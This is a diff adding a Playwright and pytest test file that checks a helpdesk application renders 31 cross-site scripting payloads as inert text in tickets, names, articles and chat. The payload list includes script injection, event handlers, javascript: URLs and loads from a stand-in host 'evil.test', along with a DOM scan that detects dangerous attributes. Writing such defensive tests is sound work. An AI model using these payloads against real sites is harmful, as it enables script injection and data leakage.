@@ -1,0 +1,185 @@
+"""T15: hostile text through title, body, name, article and chat: nothing of it runs, and nothing leaves the house."""
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+
+from harness.databases import SqliteCopies
+from harness.live import LiveServer
+from nullticket.core.enums import Role
+from nullticket.testing import PASSWORD, Desk, make_desk, make_settings
+
+RUN = "alert(1)"
+OUT = "//evil.test/x"
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt src='{OUT}.js'></sCrIpT>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src='{OUT}.png'>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>t</text></a></svg>",
+    f"<math><mtext></table><mglyph><style><img src=x onerror={RUN}></style>",
+    f"<body onpageshow={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src='{OUT}.mp3' autoplay onerror={RUN}>",
+    f"<iframe src='javascript:{RUN}'></iframe>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<object data='{OUT}.swf'></object>",
+    f"<embed src='{OUT}.svg'>",
+    f"<link rel=stylesheet href='{OUT}.css'>",
+    f"<style>@import '{OUT}.css'; body {{ background: url({OUT}.png) }}</style>",
+    f"<div style='background:url({OUT}.png)'>styled</div>",
+    f"<base href='{OUT}/'>",
+    f"<meta http-equiv=refresh content='0;url=http:{OUT}'>",
+    f"<form action='http:{OUT}'><button autofocus>send</button></form>",
+    f"<a href='javascript:{RUN}'>click</a>",
+    f"<a href='java&#x09;script:{RUN}'>click</a>",
+    f"[click](javascript:{RUN})",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    f"![pixel](http:{OUT}.png)",
+    f'"><script>{RUN}</script>',
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+)
+# What must be nowhere in the page, whoever put it there: it would run, reach out or catch what is typed.
+DANGEROUS = """() => [...document.querySelectorAll('*')].flatMap((one) => {
+  const found = [...one.attributes].filter((it) =>
+    it.name.startsWith('on') || /^\\s*(javascript|data:text|vbscript)/i.test(it.value.replace(/[\\u0000-\\u0020]/g, ''))
+    || /evil\\.test/.test(['src', 'srcset', 'action', 'data', 'style', 'poster'].includes(it.name) ? it.value : ''));
+  const foreign = ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'AUDIO', 'VIDEO'].includes(one.tagName)
+    || (one.tagName === 'SCRIPT' && !one.src.startsWith(location.origin))
+    || (one.tagName === 'META' && one.httpEquiv.toLowerCase() === 'refresh');
+  return foreign || found.length ? [one.outerHTML.slice(0, 200)] : [];
+})"""
+
+
+@pytest.fixture(scope="module")
+def hostile(sqlite_copies: SqliteCopies, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
+    """A desk whose tickets, people and articles are made of payloads."""
+    folder = tmp_path_factory.mktemp("hostile")
+    with sqlite_copies.copy(folder) as url:
+        with make_desk(make_settings(url, data_dir=folder / "var")) as desk:
+            _fill(desk)
+        server = LiveServer(url, folder)
+        try:
+            server.start()
+            yield server
+        finally:
+            server.stop()
+
+
+def _fill(desk: Desk) -> None:
+    admin = desk.headers(desk.person("admin@example.org", role=Role.ADMIN))
+    everything = "\n\n".join(PAYLOADS)
+    for number, payload in enumerate(PAYLOADS):
+        person = desk.headers(desk.person(f"p{number}@example.org", name=payload))
+        body = everything if number == 0 else payload
+        ticket = {"title": payload[:200], "description": body}
+        made = desk.client.post("/api/tickets/", json=ticket, headers=person)
+        assert made.status_code == 201, made.text
+        key = made.json()["ticket_number"]
+        desk.client.post(f"/api/tickets/{key}/comments", json={"body": body}, headers=person).raise_for_status()
+        article = {"title": payload[:150], "content": f"findme {body}", "category": "other", "status": "published"}
+        desk.client.post("/api/admin/kb/articles", json=article, headers=admin).raise_for_status()
+    desk.drain()
+
+
+@pytest.fixture
+def watched(hostile: LiveServer, browser: Browser) -> Iterator[tuple[BrowserContext, list[str]]]:
+    """A browser that notes every dialog and every request that is not for our own server."""
+    context = browser.new_context(base_url=hostile.url)
+    context.set_default_timeout(15_000)
+    faults: list[str] = []
+    context.route(lambda address: not address.startswith(hostile.url), lambda route: route.abort())
+
+    def leaves(address: str) -> None:
+        if not address.startswith((hostile.url, "blob:", "data:")):
+            faults.append(f"asked for {address}")
+
+    context.on("request", lambda request: leaves(request.url))
+    context.on("dialog", lambda dialog: (faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))
+    yield context, faults
+    context.close()
+
+
+def sign_in(context: BrowserContext, email: str) -> None:
+    answer = context.request.post("/api/auth/login", data={"email": email, "password": PASSWORD})
+    assert answer.ok, answer.text()
+
+
+def calm(page: Page, faults: list[str]) -> None:
+    """Nothing dangerous stands in the page, nothing ran and nothing was asked for elsewhere, also a moment later."""
+    page.wait_for_timeout(300)
+    assert page.evaluate(DANGEROUS) == []
+    assert faults == []
+
+
+def first_ticket(context: BrowserContext) -> str:
+    token = context.request.post("/api/auth/refresh").json()["access_token"]
+    rows = context.request.get("/api/tickets/?sort=created_at", headers={"Authorization": f"Bearer {token}"}).json()
+    return str(rows["items"][0]["ticket_number"])
+
+
+def test_there_are_as_many_kinds_as_the_list_asks_for():
+    assert len(set(PAYLOADS)) == 31
+
+
+def test_an_agent_reads_hostile_titles_names_and_bodies_in_peace(watched: tuple[BrowserContext, list[str]]):
+    context, faults = watched
+    sign_in(context, "admin@example.org")
+    page = context.new_page()
+    page.goto("/tickets")
+    expect(page.get_by_text(PAYLOADS[-1]).first).to_be_visible()
+    calm(page, faults)
+
+    page.goto(f"/tickets/{first_ticket(context)}")
+    expect(page.get_by_text("styled").first).to_be_visible()
+    calm(page, faults)
+
+
+def test_a_requester_reads_the_own_hostile_request_in_peace(watched: tuple[BrowserContext, list[str]]):
+    context, faults = watched
+    sign_in(context, "p0@example.org")
+    page = context.new_page()
+    page.goto("/portal")
+    expect(page.get_by_text(PAYLOADS[0]).first).to_be_visible()
+    calm(page, faults)
+
+    page.goto(f"/portal/tickets/{first_ticket(context)}")
+    expect(page.get_by_text("styled").first).to_be_visible()
+    calm(page, faults)
+
+
+def test_a_visitor_reads_hostile_articles_in_peace(watched: tuple[BrowserContext, list[str]]):
+    context, faults = watched
+    page = context.new_page()
+    page.goto("/portal/articles?q=findme")
+    expect(page.get_by_role("link", name="<").first).to_be_visible()
+    calm(page, faults)
+
+    hits = context.request.get("/api/kb/search?q=findme&limit=50").json()
+    whole = next(one["id"] for one in hits if one["title"] == PAYLOADS[0])
+    page.goto(f"/portal/articles/{whole}")
+    expect(page.get_by_text("styled").first).to_be_visible()
+    calm(page, faults)
+
+
+def test_the_chat_shows_hostile_words_as_words(watched: tuple[BrowserContext, list[str]], tmp_path: Path):
+    context, faults = watched
+    page = context.new_page()
+    page.goto("/widget/")
+    field = page.get_by_role("textbox")
+    expect(field).to_be_visible()
+    everything = "\n".join(PAYLOADS)
+    for text in (everything[:3900], PAYLOADS[-1], "findme"):
+        field.fill(text)
+        field.press("Enter")
+        expect(field).to_have_value("")
+    expect(page.locator("li.visitor").nth(1)).to_contain_text(PAYLOADS[-1])
+    calm(page, faults)
+    page.screenshot(path=str(tmp_path / "chat.png"))
